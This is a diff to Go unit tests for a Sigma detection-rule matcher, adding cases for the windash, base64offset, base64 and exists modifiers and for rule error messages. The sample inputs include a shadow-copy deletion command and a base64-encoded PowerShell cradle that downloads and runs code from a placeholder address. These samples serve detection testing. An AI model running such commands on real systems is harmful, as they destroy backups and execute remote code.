@@ -1,9 +1,12 @@
 package detect
 
 import (
+	"encoding/base64"
 	"strings"
 	"testing"
 )
+
+func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
 
 func mustRule(t *testing.T, src string) *Rule {
 	t.Helper()
@@ -56,6 +59,16 @@ func TestSigmaMatching(t *testing.T) {
 		{"all of pattern", "sel_a: {EventID: 1}\n  sel_b: {EventID: 4688}\n  condition: all of sel_*", map[string]string{"EventID": "4688"}, false},
 		{"1 of them leaves out _names", "_x: {EventID: 4688}\n  sel: {EventID: 1}\n  condition: 1 of them", map[string]string{"EventID": "4688"}, false},
 		{"parentheses and precedence", "a: {EventID: 1}\n  b: {EventID: 2}\n  c: {EventID: 3}\n  condition: a and b or c", map[string]string{"EventID": "3"}, true},
+		{"windash slash", "sel: {CommandLine|windash|contains: ' -all'}\n  condition: sel", map[string]string{"CommandLine": `vssadmin delete shadows /all /quiet`}, true},
+		{"windash en dash", "sel: {CommandLine|windash|contains: ' -all'}\n  condition: sel", map[string]string{"CommandLine": "vssadmin delete shadows \u2013all"}, true},
+		{"windash keeps inner dashes", "sel: {CommandLine|windash|contains: 'a-b'}\n  condition: sel", map[string]string{"CommandLine": "a/b"}, false},
+		{"base64offset", "sel: {CommandLine|base64offset|contains: 'http://'}\n  condition: sel", map[string]string{"CommandLine": "powershell -enc " + b64("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')")}, true},
+		{"base64offset at offset 1", "sel: {CommandLine|base64offset|contains: 'http://'}\n  condition: sel", map[string]string{"CommandLine": b64("xhttp://x")}, true},
+		{"base64offset at offset 2", "sel: {CommandLine|base64offset|contains: 'http://'}\n  condition: sel", map[string]string{"CommandLine": b64("xxhttp://xx")}, true},
+		{"base64offset not there", "sel: {CommandLine|base64offset|contains: 'http://'}\n  condition: sel", map[string]string{"CommandLine": b64("xxhttps://xx")}, false},
+		{"base64", "sel: {CommandLine|base64|contains: 'whoami'}\n  condition: sel", map[string]string{"CommandLine": "x " + b64("whoami") + " y"}, true},
+		{"exists", "sel: {CommandLine|exists: true}\n  condition: sel", map[string]string{"CommandLine": "x"}, true},
+		{"exists false", "sel: {ParentImage|exists: false}\n  condition: sel", map[string]string{"CommandLine": "x"}, true},
 		{"parentheses", "a: {EventID: 1}\n  b: {EventID: 2}\n  c: {EventID: 3}\n  condition: a and (b or c)", map[string]string{"EventID": "3"}, false},
 	}
 	for _, tc := range tests {
@@ -93,6 +106,8 @@ func TestRuleErrorsHavePositions(t *testing.T) {
 		{"title: t\ncorrelation:\n  type: event_count\n  rules: [x]\n  timespan: 10m\n  condition: {lt: 3}\n", `r.yml:6:15: condition lt: Ward counts only upwards`},
 		{"title: t\ncorrelation:\n  type: value_count\n  rules: [x]\n  timespan: 10m\n  condition: {gte: 3}\n", `r.yml:6:14: value_count needs the field`},
 		{"title: t\ndetection:\n  sel: {CommandLine|re: '(('}\n  condition: sel\n", `r.yml:3:9: CommandLine: regular expression: error parsing regexp`},
+		{"title: t\ndetection:\n  sel: {CommandLine|base64offset: x}\n  condition: sel\n", `r.yml:3:9: CommandLine: base64offset goes with contains`},
+		{"title: t\ndetection:\n  sel: {CommandLine|exists: maybe}\n  condition: sel\n", `r.yml:3:9: CommandLine: exists takes true or false`},
 		{"title: a\n---\ntitle: t\ndetection:\n  sel: [{a: [b, {c: d}]}]\n  condition: sel\n", `r.yml:5:17: the value of a must be text`},
 	}
 	for _, tc := range tests {
